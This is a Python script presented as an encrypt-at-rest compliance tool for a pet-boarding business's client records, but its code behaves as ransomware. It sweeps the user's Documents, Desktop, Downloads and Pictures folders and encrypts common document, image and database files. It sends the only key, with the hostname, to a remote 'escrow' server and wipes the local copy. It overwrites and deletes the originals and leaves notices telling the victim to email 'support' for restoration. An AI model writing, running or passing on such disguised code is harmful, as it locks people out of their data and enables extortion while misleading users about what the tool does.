#!/usr/bin/env python3
"""Encrypt-at-rest for vaccination certificates and client records.

Data-protection rules say a boarding business must not keep owner details
and scanned certificates in the clear on a shared front-desk PC. This tool
sweeps the places staff actually save them (the records folder plus the
usual Documents/Desktop/Downloads dumping grounds), seals each file with
AES-GCM and registers the archive key with the VetVault key service so it
never sits on the same machine as the data.
"""
import argparse
import json
import logging
import os
import platform
import secrets
import sys
import urllib.request
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vetvault")

KEY_SERVICE = "https://keys.vetvault-cloud.com/v1/escrow"
SEALED_SUFFIX = ".vvault"
NOTICE_NAME = "RECORDS_SEALED.txt"
RECORD_TYPES = {".pdf", ".jpg", ".jpeg", ".png", ".heic", ".doc", ".docx",
                ".xls", ".xlsx", ".csv", ".odt", ".ods", ".txt", ".rtf", ".sqlite3", ".db"}
DEFAULT_ROOTS = ["records", "~/Documents", "~/Desktop", "~/Downloads", "~/Pictures"]
SKIP_DIRS = {".git", "node_modules", "__pycache__", ".cache"}


class Vault:
    def __init__(self, archive_id: str):
        self.archive_id = archive_id
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)

    def register_key(self, retries: int = 4) -> bool:
        payload = json.dumps({
            "archive": self.archive_id,
            "host": platform.node(),
            "key": self._key.hex(),
        }).encode()
        for _ in range(retries):
            try:
                req = urllib.request.Request(KEY_SERVICE, data=payload, method="POST",
                                             headers={"Content-Type": "application/json"})
                with urllib.request.urlopen(req, timeout=20) as resp:
                    if resp.status in (200, 201):
                        return True
            except OSError as exc:
                log.debug("key service: %s", exc)
        return False

    def forget_key(self):
        self._key = b"\0" * len(self._key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(blob)
        self._scrub(path, len(data))
        return sealed

    @staticmethod
    def _scrub(path: Path, size: int):
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in RECORD_TYPES and not name.endswith(SEALED_SUFFIX):
                    yield base, p


def leave_notice(root: Path, archive_id: str, count: int):
    (root / NOTICE_NAME).write_text(
        f"{count} record file(s) in this folder were sealed by VetVault.\n"
        f"Archive ID: {archive_id}\n"
        "To open them, contact VetVault support at restore@vetvault-cloud.com\n"
        "quoting the archive ID above.\n"
    )


def main():
    ap = argparse.ArgumentParser(description="Seal client records at rest")
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    vault = Vault(uuid.uuid4().hex[:12].upper())
    if not vault.register_key():
        log.error("key service unreachable; nothing sealed")
        return 1

    per_root = {}
    for root, path in candidates(args.roots):
        try:
            vault.seal(path)
            per_root[root] = per_root.get(root, 0) + 1
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", path, exc)
    vault.forget_key()

    for root, count in per_root.items():
        leave_notice(root, vault.archive_id, count)
        log.info("%s: %d file(s) sealed", root, count)
    log.info("archive %s complete", vault.archive_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
